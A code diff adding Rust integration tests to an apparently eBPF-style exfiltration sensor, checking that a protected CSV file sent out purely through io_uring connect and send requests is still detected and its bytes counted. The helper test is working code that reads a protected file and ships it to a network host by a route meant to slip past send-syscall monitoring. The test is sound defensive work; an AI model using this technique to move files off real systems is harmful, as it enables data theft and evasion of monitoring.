@@ -397,6 +397,80 @@ fn relays_run_by_another_user_are_attributed_to_the_originating_user() {
     s.sensor.stop();
 }
 
+/// Selects the io_uring sender mode of this binary: "FILE ADDRESS PORT".
+const URING_ENV: &str = "MNSENSOR_EXFIL_URING";
+
+#[test]
+fn io_uring_connect_and_send_are_detected_with_their_bytes() {
+    if mnsensor_tests::in_vm() {
+        mnsensor_tests::skip!("the busybox guest's `ip` cannot make the test's network namespace");
+    }
+    let cg = Cgroup::new();
+    let host = FakeHost::new(&[9401]);
+    let mut s = setup(&cg, 1, "    action: alert\n");
+    let file = s.protected.join("mynumber-0.csv");
+    let exe = std::env::current_exe().expect("test binary");
+    // This binary re-executed in the cgroup runs only `io_uring_sender` (below).
+    let code = cg.run(&format!(
+        "{URING_ENV}='{} {} 9401' {} --ignored --exact io_uring_sender",
+        path_str(&file),
+        host.ip,
+        path_str(&exe)
+    ));
+    assert_eq!(code, 0, "io_uring sender");
+    assert_eq!(host.received_n(9401, 1), vec![SIZE as u64]);
+    let d = s.sensor.wait_for("exfiltration by io_uring", exfil_to(9401));
+    // No send syscall carried these bytes: they were counted on the socket's packets.
+    assert_eq!(get_u64(&d, "mnsensor.egress.bytes_sent"), SIZE as u64, "{}", show(&d));
+    assert_eq!(get_str(&d, "destination.address"), host.ip, "{}", show(&d));
+    assert_eq!(get_str(&d, "network.transport"), "tcp", "{}", show(&d));
+    s.sensor.stop();
+}
+
+/// The io_uring sender: reads the protected file with read(2), then connects and sends it
+/// with io_uring requests only. Runs only when [`URING_ENV`] is set.
+#[test]
+#[ignore = "helper of io_uring_connect_and_send_are_detected_with_their_bytes"]
+fn io_uring_sender() {
+    use io_uring::{IoUring, opcode, types};
+    let Ok(spec) = std::env::var(URING_ENV) else { return };
+    let parts: Vec<&str> = spec.split(' ').collect();
+    let data = fs::read(parts[0]).expect("read the protected file");
+    let ip: std::net::Ipv4Addr = parts[1].parse().expect("address");
+    let port: u16 = parts[2].parse().expect("port");
+    // SAFETY: plain socket(2); the descriptor is closed below.
+    let fd = unsafe { libc::socket(libc::AF_INET, libc::SOCK_STREAM, 0) };
+    assert!(fd >= 0, "socket: {}", std::io::Error::last_os_error());
+    let addr = libc::sockaddr_in {
+        sin_family: libc::AF_INET as libc::sa_family_t,
+        sin_port: port.to_be(),
+        sin_addr: libc::in_addr { s_addr: u32::from_ne_bytes(ip.octets()) },
+        sin_zero: [0; 8],
+    };
+    let mut ring = IoUring::new(4).expect("io_uring_setup");
+    let mut submit = |entry: io_uring::squeue::Entry| -> i32 {
+        // SAFETY: the buffers the entry points to live until its completion is reaped here.
+        unsafe { ring.submission().push(&entry).expect("queue full") };
+        ring.submit_and_wait(1).expect("io_uring_enter");
+        ring.completion().next().expect("a completion").result()
+    };
+    let connect = opcode::Connect::new(
+        types::Fd(fd),
+        (&raw const addr).cast::<libc::sockaddr>(),
+        size_of::<libc::sockaddr_in>() as libc::socklen_t,
+    );
+    assert_eq!(submit(connect.build()), 0, "io_uring connect");
+    let mut at = 0;
+    while at < data.len() {
+        let send = opcode::Send::new(types::Fd(fd), data[at..].as_ptr(), (data.len() - at) as u32);
+        let n = submit(send.build());
+        assert!(n > 0, "io_uring send: {n}");
+        at += n as usize;
+    }
+    // SAFETY: our descriptor.
+    unsafe { libc::close(fd) };
+}
+
 #[test]
 fn deny_refuses_a_tainted_connect_with_eperm_but_not_to_an_allowed_destination() {
     if mnsensor_tests::in_vm() {
